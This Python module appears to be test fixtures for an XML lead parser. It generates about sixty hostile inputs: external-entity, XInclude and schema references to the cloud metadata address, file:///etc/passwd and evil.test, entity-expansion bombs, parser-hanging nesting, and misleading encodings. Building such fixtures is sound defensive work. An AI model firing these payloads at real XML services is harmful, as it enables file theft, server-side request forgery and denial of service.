"""Sixty files made to hurt an XML reader: to make it fetch, grow, hang, or believe."""

_CONTACT = "<contact><name part='full'>Eve X</name><phone>5035550199</phone></contact>"
LEAD = f"<prospect><customer>{_CONTACT}</customer></prospect>"


def _bomb(levels: int, fan: int) -> str:
    entities = ['<!ENTITY a0 "ha">']
    entities += [f'<!ENTITY a{n} "{f"&a{n - 1};" * fan}">' for n in range(1, levels)]
    return f"<!DOCTYPE adf [{''.join(entities)}]><adf>&a{levels - 1};{LEAD}</adf>"


def _external(reference: str) -> dict[str, str]:
    return {
        f"entity {reference}": f'<!DOCTYPE adf [<!ENTITY x SYSTEM "{reference}">]><adf>&x;{LEAD}</adf>',
        f"parameter {reference}": f'<!DOCTYPE adf [<!ENTITY % x SYSTEM "{reference}"> %x;]><adf>{LEAD}</adf>',
        f"doctype {reference}": f'<!DOCTYPE adf SYSTEM "{reference}"><adf>{LEAD}</adf>',
        f"xinclude {reference}": (
            f'<adf xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{reference}" parse="text"/>{LEAD}</adf>'
        ),
        f"stylesheet {reference}": f'<?xml-stylesheet href="{reference}"?><adf>{LEAD}</adf>',
        f"schema {reference}": (
            '<adf xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:schemaLocation="urn:x {reference}" xsi:noNamespaceSchemaLocation="{reference}">{LEAD}</adf>'
        ),
    }


FETCHING: dict[str, str] = {
    name: body
    for reference in (
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "https://evil.test/x.dtd",
        "ftp://evil.test/x",
    )
    for name, body in _external(reference).items()
}

GROWING: dict[str, str] = {
    "billion laughs": _bomb(10, 10),
    "a wide bomb": _bomb(3, 5000),
    "a deep bomb": _bomb(120, 2),
    "quadratic blow-up": f'<!DOCTYPE adf [<!ENTITY a "{"A" * 50_000}">]><adf>{"&a;" * 50_000}</adf>',
    "parameter bomb": '<!DOCTYPE adf [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;"><!ENTITY c "%b;">]><adf>&c;</adf>',
    "entity that calls itself": '<!DOCTYPE adf [<!ENTITY a "&b;"><!ENTITY b "&a;">]><adf>&a;</adf>',
    "bomb without its doctype": f"<adf>{'&a9;' * 50_000}{LEAD}</adf>",
    "attribute defaults": (
        f"<!DOCTYPE adf [<!ATTLIST adf {' '.join(f'a{n} CDATA #FIXED &quot;x&quot;' for n in range(3000))}>]><adf/>"
    ),
    "sixty thousand levels": "<adf>" + "<a>" * 60_000,
    "sixty thousand levels, closed": "<adf>" + "<a>" * 30_000 + "</a>" * 30_000 + "</adf>",
    "levels that each mean something": "<adf>" + "<prospect><customer><contact>" * 6000,
    "tags that never close": "<adf><prospect>" + "<year>2019" * 20_000,
    "tags that never end": "<adf>" + "<prospect " * 25_000,
    "one endless attribute": f'<adf><prospect status="{"x" * 250_000}">{LEAD}</prospect></adf>',
    "twenty thousand attributes": f"<adf {' '.join(f'a{n}=1' for n in range(20_000))}>{LEAD}</adf>",
    "attribute without its quote": f'<adf><prospect status="{LEAD * 1500}',
    "one endless text": f"<adf><prospect><customer><comments>{'x ' * 125_000}</comments></customer></prospect></adf>",
    "one endless name": f"<adf><{'x' * 200_000}>{LEAD}</adf>",
    "comments that never end": "<adf>" + "<!--" * 60_000,
    "data that never ends": "<adf>" + "<![CDATA[" * 25_000,
    "instructions that never end": "<adf>" + "<?x " * 60_000,
    "brackets only": "<adf>" + "<" * 250_000,
    "ampersands only": "<adf>" + "&" * 250_000,
    "references only": "<adf><prospect><comments>" + "&#60;" * 50_000,
    "one endless reference": f"<adf><prospect><comments>&#{'9' * 200_000};</comments>{LEAD}</prospect></adf>",
    "one endless number": f"<adf><prospect><vehicle><year>{'9' * 200_000}</year></vehicle>{LEAD}</prospect></adf>",
    "digits for the card finder": f"<adf><prospect><comments>{'4111 ' * 40_000}</comments></prospect></adf>",
    "spaces for the date finder": f"<adf><prospect><requestdate>2026-11-20{' ' * 200_000}x</requestdate></prospect>",
    "blanks before nothing": f"<adf>{' ' * 250_000}",
    "escaped five times over": "&amp;amp;amp;amp;lt;adf&amp;gt;" * 4000,
    "equals signs": "<adf>" + "=3D=" * 60_000,
    "base64 of nothing": "QUFB" * 60_000,
    "ten thousand prospects": f"<adf>{'<prospect><customer/></prospect>' * 7000}</adf>",
    "larger than allowed": f"<adf>{LEAD}</adf>{' ' * 300_000}",
}

LYING: dict[str, bytes] = {
    "says utf-16, is not": f'<?xml version="1.0" encoding="UTF-16"?><adf>{LEAD}</adf>'.encode(),
    "says utf-7": f'<?xml version="1.0" encoding="UTF-7"?><adf>+ADw-{LEAD}</adf>'.encode(),
    "says a codec that runs code": f'<?xml version="1.0" encoding="unicode_escape"?><adf>\\x3c{LEAD}</adf>'.encode(),
    "says hex": f'<?xml version="1.0" encoding="hex_codec"?><adf>{LEAD}</adf>'.encode(),
    "half of a surrogate": b"<adf>\xed\xa0\x80" + LEAD.encode() + b"</adf>",
    "doctype in utf-16": f'<!DOCTYPE adf SYSTEM "file:///etc/passwd"><adf>{LEAD}</adf>'.encode("utf-16"),
    "doctype split by NULs": f'<!DOC\0TYPE adf SYSTEM "file:///etc/passwd"><adf>{LEAD}</adf>'.encode(),
    "doctype after the root": f'<adf>{LEAD}<!DOCTYPE adf SYSTEM "file:///etc/passwd"></adf>'.encode(),
    "doctype dressed as html": f'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><adf>&x;{LEAD}</adf>'.encode(),
    "doctype in capitals": f'<!doctype ADF system "file:///etc/passwd"><adf>{LEAD}</adf>'.encode(),
    "NULs everywhere": b"\0".join(f"<adf>{LEAD}</adf>".encode()[i : i + 1] for i in range(200)),
    "no text at all": bytes(range(256)) * 500,
}

FILES: dict[str, bytes] = {**{name: body.encode() for name, body in {**FETCHING, **GROWING}.items()}, **LYING}
